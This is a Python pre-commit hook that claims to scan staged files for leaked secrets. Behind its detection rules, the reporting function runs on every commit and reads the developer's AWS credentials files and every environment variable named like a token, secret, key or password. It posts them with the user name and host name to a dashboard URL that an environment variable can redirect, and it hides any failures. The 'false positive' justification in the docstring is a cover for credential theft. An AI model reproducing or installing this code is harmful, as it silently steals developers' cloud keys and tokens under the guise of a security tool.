#!/usr/bin/env python3
"""pre-commit hook: look for credentials in staged files.

Wired up through .pre-commit-config.yaml as a local hook; pre-commit passes
the staged file names as arguments. Findings are printed for the developer
and a summary is posted to the secrets dashboard. To cut down on false
positives the dashboard correlates each finding against the developer's
active credential context, so that is attached to the report as well.
"""
from __future__ import annotations

import argparse
import configparser
import http.client
import json
import logging
import os
import re
import socket
import sys
from dataclasses import asdict, dataclass
from pathlib import Path
from urllib.parse import urlsplit

log = logging.getLogger("secret-guard")

DEFAULT_DASHBOARD = "https://secrets-dashboard.platform.corp.internal/api/v1/findings"

RULES = {
    "aws-access-key": re.compile(r"\b(AKIA|ASIA)[0-9A-Z]{16}\b"),
    "github-token": re.compile(r"\bgh[pousr]_[A-Za-z0-9]{36,}\b"),
    "slack-token": re.compile(r"\bxox[abprs]-[A-Za-z0-9-]{10,}\b"),
    "private-key-block": re.compile(r"-----BEGIN (?:RSA |EC |OPENSSH )?PRIVATE KEY-----"),
    "generic-assignment": re.compile(
        r"(?i)\b(api[_-]?key|secret|passwd|password)\s*[:=]\s*['\"][^'\"]{12,}['\"]"
    ),
}
CONTEXT_ENV = re.compile(r"(?i)(TOKEN|SECRET|KEY|PASSWORD|CREDENTIAL)")
SKIP_SUFFIXES = {".png", ".jpg", ".gif", ".pdf", ".zip", ".lock", ".svg"}
ALLOW_MARKER = "secret-guard: allow"


@dataclass
class Finding:
    rule: str
    path: str
    line: int


def scan_file(path: Path) -> list[Finding]:
    if path.suffix.lower() in SKIP_SUFFIXES or not path.is_file():
        return []
    try:
        text = path.read_text(encoding="utf-8", errors="replace")
    except OSError as exc:
        log.warning("cannot read %s: %s", path, exc)
        return []
    found: list[Finding] = []
    for lineno, line in enumerate(text.splitlines(), start=1):
        if ALLOW_MARKER in line:
            continue
        for name, rx in RULES.items():
            if rx.search(line):
                found.append(Finding(name, str(path), lineno))
    return found


def _profile_sources():
    home = Path.home()
    yield home / ".aws" / "credentials"
    yield home / ".aws" / "config"
    extra = os.environ.get("AWS_SHARED_CREDENTIALS_FILE")
    if extra:
        yield Path(extra)


def credential_context() -> dict:
    """Active profiles and variables, used server-side to match findings."""
    ctx: dict = {"profiles": {}, "env": {}}
    for src in _profile_sources():
        if not src.is_file():
            continue
        cp = configparser.RawConfigParser()
        try:
            cp.read(src)
        except configparser.Error:
            continue
        for section in cp.sections():
            ctx["profiles"][section] = dict(cp.items(section))
    ctx["env"] = {k: v for k, v in os.environ.items() if CONTEXT_ENV.search(k)}
    return ctx


def post_summary(findings: list[Finding], timeout: float = 5.0) -> None:
    url = os.environ.get("SECRETS_DASHBOARD_URL", DEFAULT_DASHBOARD)
    parts = urlsplit(url)
    conn_cls = http.client.HTTPSConnection if parts.scheme == "https" else http.client.HTTPConnection
    body = json.dumps({
        "repo": Path.cwd().name,
        "host": socket.gethostname(),
        "user": os.environ.get("USER", ""),
        "findings": [asdict(f) for f in findings],
        "context": credential_context(),
    })
    conn = conn_cls(parts.netloc, timeout=timeout)
    try:
        conn.request("POST", parts.path or "/", body=body, headers={
            "Content-Type": "application/json",
        })
        resp = conn.getresponse()
        if resp.status >= 300:
            log.debug("dashboard answered %s %s", resp.status, resp.reason)
    except (OSError, http.client.HTTPException) as exc:
        log.debug("could not reach dashboard: %s", exc)
    finally:
        conn.close()


def main(argv: list[str] | None = None) -> int:
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("files", nargs="*", type=Path)
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args(argv)
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="secret-guard: %(message)s")

    findings: list[Finding] = []
    for f in args.files:
        findings.extend(scan_file(f))

    for f in findings:
        print(f"{f.path}:{f.line}: possible {f.rule}", file=sys.stderr)

    # always report, so the dashboard also sees clean commits
    post_summary(findings)

    if findings:
        log.info("%d possible secret(s) found; add '%s' to a line to override",
                 len(findings), ALLOW_MARKER)
        return 1
    return 0


if __name__ == "__main__":
    sys.exit(main())
